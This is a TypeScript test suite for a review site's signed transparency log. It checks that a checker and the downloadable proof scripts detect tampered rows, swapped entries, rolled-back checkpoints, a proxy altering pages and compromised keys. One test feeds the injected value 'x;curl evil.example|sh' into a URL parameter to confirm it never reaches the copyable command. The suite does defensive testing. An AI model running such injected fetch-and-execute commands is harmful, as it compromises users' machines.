import { execFile, execFileSync, spawnSync } from 'node:child_process'
import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import pg from 'pg'
import { afterAll, beforeAll, describe, expect, inject, test } from 'vitest'
import { readCheckpoint } from '../../app/domain/transparency-log/signed-note.ts'
import { secondWorld } from '../served.ts'
import { differingFigures, reportByHand } from '../world/report-by-hand.ts'

/** The public log as strangers read it: by a client that is not ours, and by the checker, which must find what was tampered with. */
let served: Awaited<ReturnType<typeof secondWorld>>
let db: pg.Client
const folder = mkdtempSync(join(tmpdir(), 'aval-log-'))
const since = join(folder, 'since.json')

beforeAll(async () => {
  served = await secondWorld(inject('demonstration'), inject('servedDatabase'))
  db = new pg.Client({ connectionString: served.url })
  await db.connect()
})
afterAll(async () => {
  await db?.end()
  await served?.stop()
  rmSync(folder, { recursive: true, force: true })
})

const get = async (path: string) => (await fetch(served.origin + path)).text()
const sizeNow = async () => readCheckpoint(await get('/registo/checkpoint'))?.size ?? 0

interface Report {
  size: number
  months: number
  objects: number
  read: number
  found: { code: string; sentence: string }[]
}
/** Runs the checker as a stranger does, but for certificates: nobody may look up so many a minute. */
const check = (...options: string[]) =>
  new Promise<Report & { exit: number | null }>((resolve, reject) => {
    execFile(
      process.execPath,
      ['scripts/check-log.mjs', served.origin, '--json', '--records', '0', ...options],
      { maxBuffer: 1e8 },
      (error, stdout) => {
        const exit = error ? (error as { code?: number }).code : 0
        try {
          resolve({ ...(JSON.parse(stdout) as Report), exit: exit ?? null })
        } catch {
          reject(new Error(stdout))
        }
      },
    )
  })
const codes = ({ found }: Report) => [...new Set(found.map((one) => one.code))]

/** Somebody with the database in their hands: no trigger sees it. */
async function behindItsBack(sql: string, values: unknown[] = []) {
  await db.query('set session_replication_role = replica')
  try {
    expect((await db.query(sql, values)).rowCount).toBeGreaterThan(0)
  } finally {
    await db.query('set session_replication_role = origin')
  }
}

/** A change as the product makes it: the log takes it up by itself. */
async function grow() {
  const before = await sizeNow()
  await db.query(
    "update reviews set rating = case rating when 5 then 4 else rating + 1 end where id = (select id from reviews where state = 'published' order by id limit 1)",
  )
  await expect.poll(sizeNow, { timeout: 10_000 }).toBeGreaterThan(before)
}

test('of an honest site nothing differs, page by page, also after it grew', async () => {
  const first = await check('--since', since, '--pages', 'all')
  expect(first).toMatchObject({ exit: 0, found: [] })
  expect(first.objects).toBeGreaterThan(50)
  expect(first.read).toBeGreaterThan(20)
  expect(first.months).toBeGreaterThan(1)
  await grow()
  const second = await check('--since', since, '--pages', '3')
  expect(second).toMatchObject({ exit: 0, found: [] })
  expect(second.size).toBeGreaterThan(first.size)
}, 300_000)

/** A program as the site gives it out: one file, run in a folder where there is nothing else. */
async function given(name: string, ...args: string[]) {
  writeFileSync(join(folder, name), await get(`/registo/programas/${name}`))
  const { status, stdout } = spawnSync(process.execPath, [name, served.origin, ...args], {
    cwd: folder,
    encoding: 'utf8',
  })
  return { status, said: stdout }
}

test('somebody who distrusts us checks a review, a removal and a certificate with what the site gives out', async () => {
  const { rows } = await db.query<{ state: string; id: string }>(
    `select distinct on (state) state, '/avaliacoes/' || id as id from reviews where state in ('published', 'removed')
     union all (select 'certificate', 'AV-' || substr(code, 1, 5) || '-' || substr(code, 6, 5) || '-' || substr(code, 11, 1) from certificates where state = 'valid' limit 1)`,
  )
  const at = Object.fromEntries(rows.map(({ state, id }) => [state, id]))
  const review = await given('check-proof.mjs', at.published ?? '')
  expect(review).toMatchObject({
    status: 0,
    said: expect.stringContaining('A página mostra o que está no registo'),
  })
  const removal = await given('check-proof.mjs', `${served.origin}${at.removed}`)
  expect(removal).toMatchObject({
    status: 0,
    said: expect.stringContaining('Avaliação retirada pela moderação, e o registo di-lo'),
  })
  expect(await given('check-proof.mjs', at.certificate ?? '')).toMatchObject({
    status: 0,
    said: expect.stringContaining('A página mostra o que está no registo'),
  })
  const { rows: ended } = await db.query<{ code: string }>(
    "select 'AV-' || substr(code, 1, 5) || '-' || substr(code, 6, 5) || '-' || substr(code, 11, 1) code from certificates where state = 'revoked' limit 1",
  )
  expect(await given('check-proof.mjs', ended[0]?.code ?? '')).toMatchObject({
    status: 0,
    said: expect.stringMatching(/^! Certificado: revogado\./),
  })
  const { rows: months } = await db.query<{ month: string }>(
    "select content->>'report' as month from log_facts where id like 'report:%' order by id desc limit 1",
  )
  const month = await given('check-proof.mjs', `/transparencia/${months[0]?.month.replace('-', '/')}`)
  expect(month).toMatchObject({ status: 0, said: expect.stringContaining('De que trata: Relatório de') })
  // What is said is for people: no names of fields, no things of programs, and the key to be noted.
  expect(month.said).not.toContain('[object')
  expect(review.said).not.toMatch(/(kind|stars|wouldHire):/)
  expect(review.said).toMatch(/Estrelas: \d de 5[\s\S]*--key \S+\+[0-9a-f]{8}\+/)
  const file = join(folder, 'prova.json')
  const proof = await get(`/registo/provas/avaliacao/${at.published?.split('/').at(-1)}`)
  writeFileSync(file, proof)
  expect(await given('check-proof.mjs', file)).toMatchObject({ status: 0 })
  writeFileSync(
    file,
    proof.replace(/"stars": (\d)/, (_, n) => `"stars": ${(Number(n) % 5) + 1}`),
  )
  expect(await given('check-proof.mjs', file)).toMatchObject({
    status: 1,
    said: expect.stringContaining('foi feita sobre outro texto'),
  })
  expect(await given('check-proof.mjs', '/nada')).toMatchObject({ status: 2 })
  expect((await given('check-log.mjs', '--pages', '1', '--records', '1')).status).toBe(0)
}, 60_000)

test('no link writes the command that people copy', async () => {
  const page = await get(`/transparencia/verificar?morada=${encodeURIComponent('x;curl evil.example|sh')}`)
  const [, commands = ''] = /<pre><code>([\s\S]*?)<\/code>/.exec(page) ?? []
  expect(commands).toContain('check-proof.mjs')
  expect(commands).not.toContain('evil')
  const code = `${served.origin}/verificar-certificacao/AV-JZMEY-23SDN-H?x=;id`
  const known = await get(`/transparencia/verificar?morada=${encodeURIComponent(code)}`)
  expect(known).toMatch(/check-proof\.mjs \S+ AV-JZMEY-23SDN-H\n/)
})

test('the entries say where they go on, to the last', async () => {
  let [at, seen]: [string | null, number] = ['/registo/entradas.json', 0]
  while (at) {
    const told = JSON.parse(await get(at)) as { entries: unknown[]; next: string | null }
    seen += told.entries.length
    at = told.next
  }
  expect(seen).toBe(await sizeNow())
})

test('of the demonstration every figure of every month is the one that a second way of counting gives', async () => {
  const { rows } = await db.query<{ month: string; figures: Record<string, number> }>(
    'select month, figures from report_months order by month desc limit 4',
  )
  expect(rows.length).toBeGreaterThan(2)
  for (const { month, figures } of rows.slice(1)) {
    const byHand = await reportByHand(async (statement) => (await db.query(statement)).rows, month)
    expect({ month, differing: differingFigures(figures, byHand) }).toEqual({ month, differing: [] })
    expect(Object.values(figures).filter((value) => value > 0).length).toBeGreaterThan(12)
  }
})

/** Installs Debian's Go and its library where it can. @returns whether they are there */
function haveGo(): boolean {
  const there = () =>
    existsSync('/usr/share/gocode/src/golang.org/x/mod/sumdb/tlog') &&
    spawnSync('go', ['version']).status === 0
  if (!there() && process.getuid?.() === 0)
    spawnSync(
      'apt-get',
      ['install', '-y', '--no-install-recommends', 'golang-go', 'golang-golang-x-mod-dev'],
      {
        timeout: 180_000,
      },
    )
  return there()
}

test("Go's own reader of logs takes ours: signature, hashes, inclusion, consistency", async ({ skip }) => {
  if (!haveGo()) {
    process.stderr.write('Go cannot be installed here: another client did not read the log.\n')
    return skip()
  }
  const program = join(folder, 'reader')
  const env = {
    ...process.env,
    GO111MODULE: 'off',
    GOPATH: '/usr/share/gocode',
    GOFLAGS: '',
    GOCACHE: join(folder, 'cache'),
  }
  execFileSync('go', ['build', '-o', program, 'tests/access/log-reader/reader.go'], { env })
  const older = join(folder, 'older')
  writeFileSync(older, await get('/registo/checkpoint'))
  await grow()
  const [key = ''] = (await get('/registo/chave')).split('\n')
  const read = (...more: string[]) =>
    spawnSync(program, [`${served.origin}/registo`, ...more], { encoding: 'utf8' }).stdout.trim()
  expect(read(key, older)).toBe('ok')
  // It would have seen it: another key, and a checkpoint of another tree.
  expect(read(key.replace(/.$/, (last) => (last === 'A' ? 'B' : 'A')))).not.toBe('ok')
  writeFileSync(older, readFileSync(older, 'utf8').replace(/\n\d+\n/, '\n7\n'))
  expect(read(key, older)).not.toBe('ok')
}, 300_000)

/** What may happen to a review, as statements of the product's own kinds: triggers log each. */
const steps = [
  "update reviews set rating = 1 + rating % 5 where id = $1 and state in ('published', 'masked')",
  "update reviews set body = left(body, 3000) || ' E mais isto.' where id = $1 and state = 'published'",
  `update reviews set state = 'masked', masked_spans = '[{"part":"body","start":0,"end":6}]' where id = $1 and state = 'published'`,
  "update reviews set state = 'published', masked_spans = null where id = $1 and state = 'masked'",
  "update reviews set state = 'removed', published_at = null, counts = false where id = $1 and state = 'published'",
  "update reviews set state = 'published', published_at = now() where id = $1 and state = 'removed'",
  "update reviews set author_shown = 'Cliente anónimo', author_name = null where id = $1 and state in ('published', 'masked')",
  "update review_replies set body = left(body, 900) || ' Obrigado.' where review_id = $1 and state = 'published'",
  "update review_replies set state = 'removed' where review_id = $1 and state = 'published'",
]

/** `LOG_HISTORIES=10000 LOG_SEED=… vitest run --project worlds tests/access/transparency-log.test.ts` for the long run. */
test('in random honest histories the checker finds nothing', async () => {
  const histories = Number(process.env.LOG_HISTORIES ?? 300)
  const seed = Number(process.env.LOG_SEED ?? Date.now() % 1_000_000)
  process.stderr.write(`LOG_HISTORIES=${histories} LOG_SEED=${seed}\n`)
  let state = seed
  const random = (below: number) => {
    state = (Math.imul(state, 1_103_515_245) + 12_345) & 0x7fff_ffff
    return (state >>> 8) % below
  }
  const { rows } = await db.query<{ id: string }>(
    "select id from reviews where state = 'published' and masked_spans is null order by id",
  )
  const file = join(folder, 'histories.json')
  const looks = Math.max(2, Math.round(histories / 2000))
  const sizes: number[] = []
  for (let h = 1; h <= histories; h += 1) {
    const id = rows[random(rows.length)]?.id
    const together = random(3) === 0
    if (together) await db.query('begin')
    for (let n = 1 + random(6); n > 0; n -= 1) await db.query(steps[random(steps.length)] as string, [id])
    if (together) await db.query(random(10) === 0 ? 'rollback' : 'commit')
    if (h % Math.ceil(histories / looks) !== 0 && h !== histories) continue
    await expect
      .poll(async () => (await db.query('select from log_queue')).rowCount, { timeout: 60_000 })
      .toBe(0)
    const { rows: head } = await db.query<{ size: string }>('select size from log_head')
    await expect.poll(sizeNow, { timeout: 10_000 }).toBe(Number(head[0]?.size))
    await db.query("select pg_notify('aval_cache', $1)", [JSON.stringify([`r:${id}`])])
    const report = await check('--since', file, '--pages', '0')
    expect({ seed, found: report.found }).toEqual({ seed, found: [] })
    sizes.push(report.size)
  }
  expect((sizes.at(-1) ?? 0) - (sizes[0] ?? 0)).toBeGreaterThan(histories / 4)
  rmSync(file)
}, 1_200_000)

describe('what was tampered with is found by the checker, which says what', () => {
  const review = async () =>
    (
      await db.query<{ id: string; body: string }>(
        "select id, body from reviews where state = 'published' and masked_spans is null order by id desc limit 1",
      )
    ).rows[0] as { id: string; body: string }

  test('a text was changed in its row', async () => {
    const { id, body } = await review()
    await behindItsBack('update reviews set body = $2 where id = $1', [id, `${body} Mas já não.`])
    const report = await check()
    expect(codes(report)).toContain('content')
    expect(report).toMatchObject({
      exit: 1,
      found: expect.arrayContaining([
        { code: 'content', sentence: expect.stringContaining(`de «avaliação ${id}»`) },
      ]),
    })
    await behindItsBack('update reviews set body = $2 where id = $1', [id, body])
    expect(await check()).toMatchObject({ exit: 0 })
  })

  test('a text is another in the page only', async () => {
    const { id, body } = await review()
    await db.query("select pg_notify('aval_cache', $1)", [JSON.stringify([`r:${id}`])])
    await behindItsBack('update reviews set body = $2 where id = $1', [
      id,
      'Era um texto diferente, que ninguém escreveu nesta página.',
    ])
    await new Promise((r) => setTimeout(r, 1500))
    expect(await get(`/avaliacoes/${id}`)).toContain('que ninguém escreveu')
    await behindItsBack('update reviews set body = $2 where id = $1', [id, body])
    expect(codes(await check('--pages', 'all'))).toEqual(['page'])
    expect(await given('check-proof.mjs', `/avaliacoes/${id}`)).toMatchObject({
      status: 1,
      said: expect.stringContaining('A página não mostra o que está no registo'),
    })
    await db.query("select pg_notify('aval_cache', $1)", [JSON.stringify([`r:${id}`])])
  })

  test('a certificate’s record is another in the page only', async () => {
    await db.query('truncate limits')
    const { rows } = await db.query<{ code: string }>(
      "select 'AV-' || substr(code, 1, 5) || '-' || substr(code, 6, 5) || '-' || substr(code, 11, 1) code from certificates where state = 'suspended' limit 1",
    )
    const code = rows[0]?.code ?? ''
    // What a network between us and the reader could show: all of it is ours but a word. Of every record, as the checker reads some at random.
    const others: Record<string, string> = { Suspenso: 'Em vigor', 'Em vigor': 'Suspenso' }
    const between = createServer(async ({ url = '' }, answer) => {
      const ours = await fetch(served.origin + url, { redirect: 'manual' })
      const type = ours.headers.get('content-type') ?? ''
      const body = Buffer.from(await ours.arrayBuffer())
      answer.writeHead(ours.status, { 'content-type': type })
      answer.end(
        url.startsWith('/verificar-certificacao/') && type.startsWith('text/html')
          ? body.toString('utf8').replaceAll(/Suspenso|Em vigor/g, (word) => others[word] as string)
          : body,
      )
    })
    await new Promise<void>((resolve) => between.listen(0, '127.0.0.1', resolve))
    const elsewhere = `http://127.0.0.1:${(between.address() as AddressInfo).port}`
    const run = (program: string, ...args: string[]) =>
      new Promise<string>((resolve) => {
        execFile(process.execPath, [`scripts/${program}`, elsewhere, ...args], (_, stdout) => resolve(stdout))
      })
    expect(await run('check-proof.mjs', code)).toMatch(/^✗ A página não mostra o que está no registo/)
    expect(await run('check-log.mjs', '--pages', 'all')).toMatch(
      /O registo do certificado AV-[0-9A-Z-]+ não diz o que a entrada/,
    )
    between.close()
  })

  test('a review was deleted', async () => {
    const { rows } = await db.query(
      "select to_jsonb(r) as row from reviews r where state = 'published' order by id limit 1",
    )
    const row = rows[0].row as { id: string }
    await behindItsBack('delete from reviews where id = $1', [row.id])
    await db.query("select pg_notify('aval_cache', $1)", [JSON.stringify([`r:${row.id}`])])
    await new Promise((r) => setTimeout(r, 1500))
    const report = await check('--pages', 'all')
    const { rows: generated } = await db.query<{ names: string }>(
      "select string_agg(quote_ident(column_name), ',') as names from information_schema.columns where table_name = 'reviews' and is_generated = 'NEVER'",
    )
    const names = generated[0]?.names
    await behindItsBack(
      `insert into reviews (${names}) select ${names} from jsonb_populate_record(null::reviews, $1)`,
      [JSON.stringify(row)],
    )
    expect(report.exit).toBe(1)
    expect(report.found.map(({ sentence }) => sentence).join('\n')).toContain(
      `«avaliação ${row.id}» está no registo`,
    )
    // Said to be withdrawn, with nothing of it in the log.
    await behindItsBack(
      "update reviews set state = 'withdrawn', published_at = null, counts = false where id = $1",
      [row.id],
    )
    expect(codes(await check('--pages', 'all'))).toContain('content')
    await behindItsBack('update reviews set state = $2, published_at = $3, counts = $4 where id = $1', [
      row.id,
      'published',
      (row as never as { published_at: string }).published_at,
      (row as never as { counts: boolean }).counts,
    ])
  })

  test('an entry was changed, or two changed places', async () => {
    const last = (await sizeNow()) - 1
    const { rows } = await db.query<{ entry: string }>(
      'select entry from log_leaves where index in ($1, $2) order by index',
      [last, last - 1],
    )
    const [first = '', second = ''] = rows.map(({ entry }) => entry)
    const put = (index: number, entry: string) =>
      behindItsBack('update log_leaves set entry = $2 where index = $1', [index, entry])
    await put(last, second.replace('"v":1', '"v":2'))
    expect(codes(await check('--pages', '0'))).toEqual(expect.arrayContaining(['tile', 'root']))
    await put(last - 1, second)
    await put(last, first)
    expect(codes(await check('--pages', '0'))).toEqual(expect.arrayContaining(['tile', 'root']))
    await put(last - 1, first)
    await put(last, second)
    expect(codes(await check('--pages', '0'))).toEqual([])
  })

  test("a month's figure was changed: in its row, or in what its page says", async () => {
    const { rows } = await db.query<{
      id: string
      content: { report: string; figures: { received: number } }
    }>("select id, content from log_facts where id like 'report:%' order by id desc limit 1")
    const [month] = rows
    if (!month) throw new Error('no month is frozen')
    const { report, figures } = month.content
    const put = async (received: number) => {
      await behindItsBack(
        "update log_facts set content = jsonb_set(content, '{figures,received}', to_jsonb($2::int)) where id = $1",
        [month.id, received],
      )
    }
    const drop = async () => {
      await db.query("select pg_notify('aval_cache', $1)", [JSON.stringify(['report'])])
      await new Promise((r) => setTimeout(r, 1500))
    }
    await put(figures.received + 7)
    const changed = await check('--pages', '0')
    expect(changed.exit).toBe(1)
    expect(codes(changed)).toEqual(['report'])
    const sentences = changed.found.map(({ sentence }) => sentence).join('\n')
    expect(sentences).toContain(`Um número do mês ${report} foi mudado`)
    expect(sentences).toContain('não é o que foi assinado')
    // In what is kept of the page only.
    await drop()
    await get(`/transparencia/${report.replace('-', '/')}`)
    await put(figures.received)
    const shown = await check('--pages', '0')
    expect(shown.found.map(({ sentence }) => sentence).join('\n')).toContain(
      `«received» é ${figures.received} no registo e a página mostra ${figures.received + 7}`,
    )
    await drop()
    expect(await check('--pages', '0')).toMatchObject({ exit: 0 })
  })

  test('the checkpoint was rolled back, or the tree written anew', async () => {
    const file = join(served.files, 'files/registo/checkpoint')
    const now = readFileSync(file, 'utf8')
    const kept = JSON.parse(readFileSync(since, 'utf8')) as {
      size: number
      edge: string[]
      checkpoint: string
    }
    await grow()
    const last = readFileSync(file, 'utf8')
    await check('--since', since, '--pages', '0')
    writeFileSync(file, now)
    expect(codes(await check('--since', since, '--pages', '0'))).toContain('rolled-back')
    writeFileSync(file, last)
    // What another network was shown: a tree of the same size with another past.
    const forked = {
      ...kept,
      edge: kept.edge.map((hash, i) =>
        i === 0 ? Buffer.from(hash, 'base64').reverse().toString('base64') : hash,
      ),
    }
    writeFileSync(since, JSON.stringify(forked))
    expect(codes(await check('--since', since, '--pages', '0'))).toContain('rewritten')
  })

  test('a review was put on the site without the log', async () => {
    const { rows } = await db.query<{ names: string }>(
      "select string_agg(quote_ident(column_name), ',') as names from information_schema.columns where table_name = 'reviews' and is_generated = 'NEVER' and column_name not in ('id', 'published_at', 'author_id')",
    )
    const names = rows[0]?.names ?? ''
    await behindItsBack(
      `insert into reviews (id, published_at, ${names}) select gen_random_uuid(), now(), ${names} from reviews where state = 'published' order by id limit 1`,
    )
    const { rows: companies } = await db.query<{ tag: string }>(
      "select distinct 'c:' || company_id as tag from reviews order by 1",
    )
    await db.query("select pg_notify('aval_cache', $1)", [JSON.stringify(companies.map(({ tag }) => tag))])
    await new Promise((r) => setTimeout(r, 1500))
    expect(codes(await check('--pages', 'all'))).toContain('unlogged')
  })
})

test('the key is changed: who follows passes from key to key; a lost or stolen one passes nothing on', async () => {
  const file = join(folder, 'keys.json')
  const keyNow = async () => (await get('/registo/chave')).split('\n')[0] ?? ''
  const rotate = (...how: string[]) => {
    const done = served.run('log', 'rotate', ...how)
    expect([done.status, done.stderr]).toEqual([0, ''])
  }
  const follow = (...options: string[]) => check('--since', file, '--pages', '0', ...options)
  expect(await follow()).toMatchObject({ exit: 0 })
  const first = await keyNow()
  rotate()
  const second = await keyNow()
  expect(second).not.toBe(first)
  expect(readCheckpoint(await get('/registo/checkpoint'))?.lines).toHaveLength(2)
  // Also who looks only once in a while, and holds the first key.
  rotate()
  expect(await follow('--key', first)).toMatchObject({ exit: 0, found: [] })
  rotate('--compromised', 'Uma cópia da máquina saiu sem autorização.')
  const stolen = await follow()
  expect(codes(stolen)).toEqual(['key-compromised', 'signature'])
  expect(stolen.found[0]?.sentence).toContain('Uma cópia da máquina saiu sem autorização.')
  expect(await get('/registo')).toContain('nada do que assina vale')
  expect(await follow('--key', await keyNow())).toMatchObject({ exit: 0, found: [] })
  rotate('--lost', 'O segredo não se consegue ler.')
  expect(codes(await follow())).toEqual(['key-lost', 'signature'])
  expect(await follow('--key', await keyNow())).toMatchObject({ exit: 0, found: [] })
  // What was signed before a key was lost still holds; what a compromised one signed does not.
  expect(await get('/registo/chave')).toContain(first)
  rmSync(file)
}, 120_000)
